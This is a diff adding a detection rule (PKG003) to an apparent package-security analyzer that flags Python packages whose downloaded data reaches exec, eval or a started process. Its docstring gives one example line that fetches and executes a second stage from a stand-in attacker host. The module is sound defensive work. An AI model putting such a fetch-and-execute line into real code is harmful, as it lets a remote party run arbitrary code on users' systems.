@@ -1,0 +1,106 @@
+"""PKG003: bytes fetched from the network reach code execution or a started program.
+
+The checks: ``exec``/``eval`` of downloaded data, a process started on downloaded content or on
+a file that received a download, and (once the module is walked) any command that names a file
+written from the network earlier or later in the module.
+"""
+
+from __future__ import annotations
+
+import ast
+
+from outwork.analyzers.packages.facts import CallSite, Command, Facts, StartedCommand
+from outwork.analyzers.packages.rules.base import BehaviourRule, Variant
+from outwork.analyzers.packages.signals import clip
+from outwork.core.rules import Confidence, Layer, Severity
+
+C, H, M, L, N = (
+    Severity.CRITICAL,
+    Severity.HIGH,
+    Severity.MEDIUM,
+    Severity.LOW,
+    Severity.INFO,
+)
+
+
+class DownloadAndExecute(BehaviourRule):
+    """Bytes fetched from the network reach code execution or a started program.
+
+    ## What it finds
+    Data flow from a download (`requests.get(...).text`, `urlopen(...).read()`, `urlretrieve`)
+    into `exec`, `eval`, `compile`, a process command, or a file that is then started: also
+    through archives unpacked from a download, helper functions that download to a file and
+    return it or run what they are given, threads started on `os.system`, and commands received
+    from a socket (a remote shell).
+
+    ## Why it matters
+    A package that runs what it downloads can change its behaviour at any time without a new
+    release: the registry sees only the harmless first stage.
+
+    ## Example
+    ```python
+    exec(requests.get("https://evil.example/stage2.py").text)
+    ```
+
+    ## Remediation
+    Do not install the package; if it ran, treat the host as compromised.
+
+    ## References
+    - MITRE ATT&CK T1105 (Ingress Tool Transfer)
+    - CWE-494: Download of Code Without Integrity Check
+    """
+
+    code = "PKG003"
+    name = "download-and-execute"
+    layer = Layer.PKG
+    severity = Severity.CRITICAL
+    confidence = Confidence.HIGH
+    cwe = (494, 506)
+    attack = ("T1105",)
+    inline_suppressible = False
+
+    #: install, import, reached from import, only when called
+    RUNS_DOWNLOAD = Variant("runs or starts downloaded content", C, C, C, H)
+
+
+def executes_download(call: CallSite, labels: frozenset[str]) -> bool:
+    """``exec``/``eval`` of data that came from the network."""
+    if "net" not in labels:
+        return False
+    call.emit(
+        DownloadAndExecute.RUNS_DOWNLOAD,
+        f"{call.name}() runs code downloaded {call.ctx.label}",
+        clip(ast.unparse(call.node)),
+        executes=True,
+    )
+    return True
+
+
+def starts_download(call: CallSite, command: Command) -> bool:
+    """A command that is, or names a file that holds, downloaded content."""
+    written = any(p and p in command.text for p in call.facts.written_net_paths)
+    if "net" not in command.labels and not written:
+        return False
+    call.emit(
+        DownloadAndExecute.RUNS_DOWNLOAD,
+        f"{call.name}() starts downloaded content {call.ctx.label}",
+        command.evidence,
+        executes=True,
+    )
+    return True
+
+
+def started_written_files(facts: Facts, commands: list[StartedCommand]) -> None:
+    """After the walk: commands that name a file which received downloaded bytes anywhere in
+    the module (the download may come after the command in the source)."""
+    written = facts.written_net_paths
+    for command, line, ctx, name in commands:
+        if any(p in command for p in written):
+            facts.emit(
+                DownloadAndExecute.RUNS_DOWNLOAD,
+                f"{name}() starts a file that received downloaded bytes {ctx.label}",
+                line,
+                clip(command),
+                ctx=ctx,
+                relations=("executes-at-install",),
+            )
